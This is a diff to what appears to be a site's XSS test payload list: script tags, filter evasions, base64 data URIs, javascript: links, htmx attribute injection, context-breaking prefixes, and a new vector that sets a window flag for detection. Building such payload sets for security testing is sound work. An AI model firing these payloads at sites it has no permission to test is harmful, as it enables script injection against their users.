@@ -1,6 +1,7 @@
 """Cross-site-scripting payloads: classic vectors, filter evasions, attribute and tag breakouts,
-and htmx attribute injection (the site loads htmx). Each vector comes raw and after three
-context breakers, so every payload is tried in text, attribute and raw-text positions."""
+htmx attribute injection (the site loads htmx), and a vector that only sets a window flag
+(`window.__xss`), for pages where a dialog would go unnoticed. Each vector comes raw and after
+three context breakers, so every payload is tried in text, attribute and raw-text positions."""
 
 VECTORS = [
     "<script>alert(1)</script>",
@@ -43,6 +44,7 @@ VECTORS = [
     "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>d</a>",
     "javascript:alert(1)",
     "[click](javascript:alert(1))",
+    "<img src=x onerror=window.__xss=1>",
 ]
 BREAKERS = ["", '"><', "'></p></textarea></title></script></style>", "--></code></pre>"]
 PAYLOADS = [breaker + vector for breaker in BREAKERS for vector in VECTORS]
